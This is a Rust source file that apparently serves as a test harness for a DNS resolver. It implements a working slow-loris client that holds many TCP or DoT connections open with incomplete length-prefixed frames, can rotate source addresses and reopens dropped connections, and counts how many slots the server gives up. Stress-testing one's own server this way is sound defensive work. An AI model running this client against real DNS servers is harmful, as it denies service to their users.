//! A slow-loris client: opens many TCP connections to a DNS server, sends part
//! of a length-prefixed frame that never completes (a prefix announcing 65535
//! bytes, then a few bytes per interval), and counts how many connections the
//! server lets it hold. Used by `tests/it/resolver_exhaustion.rs` in process
//! and by `tests/bench/attacks.sh` through the `slowloris` binary.
//!
//! A connection counts as held while the server has neither closed nor reset
//! it; that includes a connection the kernel completed that still waits in
//! the server's listen backlog (a server with every slot taken and not
//! accepting), which the client cannot tell from an accepted one. A DoT port gets the same treatment: a TCP connection that never sends a
//! ClientHello holds a slot until the handshake timeout.

use std::net::{IpAddr, SocketAddr};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::task::JoinSet;
use tokio::time::Instant;

/// What to attack, how hard, for how long.
#[derive(Debug, Clone)]
pub struct Attack {
    /// The server's TCP (or DoT) address.
    pub target: SocketAddr,
    /// Connections to open.
    pub connections: usize,
    /// Bytes sent per `interval` on each connection after the first prefix
    /// byte; 0: send one byte of the length prefix and hold.
    pub bytes_per_interval: usize,
    /// Pause between sends.
    pub interval: Duration,
    /// How long to hold.
    pub duration: Duration,
    /// Source addresses, used in turn (empty: the kernel picks), to look
    /// like many clients.
    pub sources: Vec<IpAddr>,
    /// Open a new connection whenever the server closes one, as a
    /// persistent attacker does.
    pub reopen: bool,
}

/// What the attack achieved.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct Outcome {
    /// Connections the TCP handshake completed for.
    pub opened: usize,
    /// Connection attempts that failed (refused, reset during connect).
    pub failed: usize,
    /// Connections the server closed before the end.
    pub closed_by_server: usize,
    /// Connections still open at the end.
    pub held: usize,
    /// The most connections open at once.
    pub max_held: usize,
}

impl std::fmt::Display for Outcome {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(
            f,
            "slowloris: opened={} failed={} closed_by_server={} held={} max_held={}",
            self.opened, self.failed, self.closed_by_server, self.held, self.max_held
        )
    }
}

async fn connect(target: SocketAddr, source: Option<IpAddr>) -> std::io::Result<TcpStream> {
    let socket = if target.is_ipv4() {
        TcpSocket::new_v4()?
    } else {
        TcpSocket::new_v6()?
    };
    if let Some(ip) = source {
        socket.bind(SocketAddr::new(ip, 0))?;
    }
    tokio::time::timeout(Duration::from_secs(3), socket.connect(target))
        .await
        .map_err(|_| std::io::Error::from(std::io::ErrorKind::TimedOut))?
}

/// Holds one connection until `end`; true if the server closed it first.
async fn hold(mut stream: TcpStream, attack: &Attack, end: Instant) -> bool {
    // A length prefix announcing 65535 bytes: never completed in time.
    if stream.write_all(&[0xff]).await.is_err() {
        return true;
    }
    let mut sent_prefix = false;
    let mut buf = [0u8; 512];
    let mut tick = tokio::time::interval_at(Instant::now() + attack.interval, attack.interval);
    loop {
        tokio::select! {
            _ = tokio::time::sleep_until(end) => return false,
            r = stream.read(&mut buf) => match r {
                Ok(0) | Err(_) => return true,
                // A reply to half a query cannot come; ignore what does.
                Ok(_) => {}
            },
            _ = tick.tick(), if attack.bytes_per_interval > 0 => {
                let mut chunk = vec![0u8; attack.bytes_per_interval];
                if !sent_prefix {
                    chunk[0] = 0xff;
                    sent_prefix = true;
                }
                if stream.write_all(&chunk).await.is_err() {
                    return true;
                }
            }
        }
    }
}

/// Counters the connection tasks share.
#[derive(Debug, Default)]
struct Counts {
    opened: AtomicUsize,
    failed: AtomicUsize,
    closed_by_server: AtomicUsize,
    held: AtomicUsize,
    open_now: AtomicUsize,
    max_open: AtomicUsize,
}

/// One attacker slot: connects, holds until the end, and with `reopen`
/// connects again whenever the server closes.
async fn slot(attack: Arc<Attack>, source: Option<IpAddr>, end: Instant, counts: Arc<Counts>) {
    while Instant::now() < end {
        let stream = match connect(attack.target, source).await {
            Ok(s) => s,
            Err(_) => {
                counts.failed.fetch_add(1, Ordering::AcqRel);
                if !attack.reopen {
                    return;
                }
                tokio::time::sleep(attack.interval).await;
                continue;
            }
        };
        counts.opened.fetch_add(1, Ordering::AcqRel);
        let now = counts.open_now.fetch_add(1, Ordering::AcqRel) + 1;
        counts.max_open.fetch_max(now, Ordering::AcqRel);
        let closed = hold(stream, &attack, end).await;
        counts.open_now.fetch_sub(1, Ordering::AcqRel);
        if !closed {
            counts.held.fetch_add(1, Ordering::AcqRel);
            return;
        }
        counts.closed_by_server.fetch_add(1, Ordering::AcqRel);
        if !attack.reopen {
            return;
        }
        // A refused attacker retries at its own pace, not in a tight loop.
        tokio::time::sleep(attack.interval.min(Duration::from_millis(50))).await;
    }
}

/// Runs the attack: opens the connections (one after the other, each held as
/// soon as it is open; a connect waits at most 3 s), holds them until
/// `duration` from the start, and counts.
pub async fn run(attack: Attack) -> Outcome {
    let end = Instant::now() + attack.duration;
    let counts = Arc::new(Counts::default());
    let attack = Arc::new(attack);
    let mut tasks = JoinSet::new();
    for i in 0..attack.connections {
        let source = match attack.sources.len() {
            0 => None,
            n => attack.sources.get(i % n).copied(),
        };
        tasks.spawn(slot(attack.clone(), source, end, counts.clone()));
        // Let the connect go out before the next, as a real client's would.
        tokio::task::yield_now().await;
    }
    while tasks.join_next().await.is_some() {}
    let get = |c: &AtomicUsize| c.load(Ordering::Acquire);
    Outcome {
        opened: get(&counts.opened),
        failed: get(&counts.failed),
        closed_by_server: get(&counts.closed_by_server),
        held: get(&counts.held),
        max_held: get(&counts.max_open),
    }
}
